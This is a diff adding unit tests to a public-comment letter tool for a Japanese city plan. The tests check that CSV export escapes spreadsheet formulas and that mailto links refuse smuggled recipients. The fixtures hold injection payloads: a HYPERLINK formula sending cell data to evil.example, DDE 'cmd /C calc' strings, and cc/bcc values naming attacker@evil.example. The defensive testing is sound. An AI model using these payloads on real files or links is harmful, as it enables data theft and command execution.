@@ -40,6 +40,15 @@ describe('letterCsv', () => {
     expect(csv).toContain(',2,北上市情報基本計画2026（案） 第7章(2),https://example.jp/plans/kitakami-2026/chapters/c7/#measures,"「高齢者向け」と書いてほしい, です。\n2行目。"\r\n');
     expect(csv.split('\r\n')).toHaveLength(4);
   });
+
+  it('never writes a cell that a spreadsheet runs as a formula, whoever typed it', () => {
+    const hostile: LetterDraft = {
+      name: '=HYPERLINK("https://evil.example/?"&C2,"詳細")', address: '@SUM(1+1)*cmd|\' /C calc\'!A0', contact: '+81-197-00-0000',
+      opinions: [{ id: 'a', passage: '=1+1', url: '', opinion: '-2+3+cmd|\' /C calc\'!A0' }],
+    };
+    const [, row] = letterCsv(title, hostile, 'https://example.jp').split('\r\n');
+    expect(row).toBe(`${title}に対する意見,"'=HYPERLINK(""https://evil.example/?""&C2,""詳細"")",'@SUM(1+1)*cmd|' /C calc'!A0,'+81-197-00-0000,1,'=1+1,,'-2+3+cmd|' /C calc'!A0`);
+  });
 });
 
 describe('checkLetter', () => {
@@ -73,5 +82,18 @@ describe('moveOpinion, parseDraft and mailtoHref', () => {
 
   it('encodes subject and body for an e-mail program', () => {
     expect(mailtoHref('iken@example.jp', title, 'a b\n')).toBe(`mailto:iken@example.jp?subject=${encodeURIComponent(`${title}に対する意見`)}&body=a%20b%0A`);
+  });
+
+  it('keeps a body with & and ?cc= inside the body, adding no recipient', () => {
+    const href = new URL(mailtoHref('iken@example.jp', title, 'a&cc=attacker@evil.example?bcc=x#y'));
+    expect(href.pathname).toBe('iken@example.jp');
+    expect([...href.searchParams.keys()]).toEqual(['subject', 'body']);
+    expect(href.searchParams.get('body')).toBe('a&cc=attacker@evil.example?bcc=x#y');
+    expect(href.hash).toBe('');
+  });
+
+  it('refuses an address that would copy the letter to someone else', () => {
+    expect(() => mailtoHref('joho@city.example?cc=attacker@evil.example&bcc=x', title, 'a')).toThrow('comment_email is not one e-mail address');
+    expect(() => mailtoHref('joho@city.example,attacker@evil.example', title, 'a')).toThrow('comment_email is not one e-mail address');
   });
 });
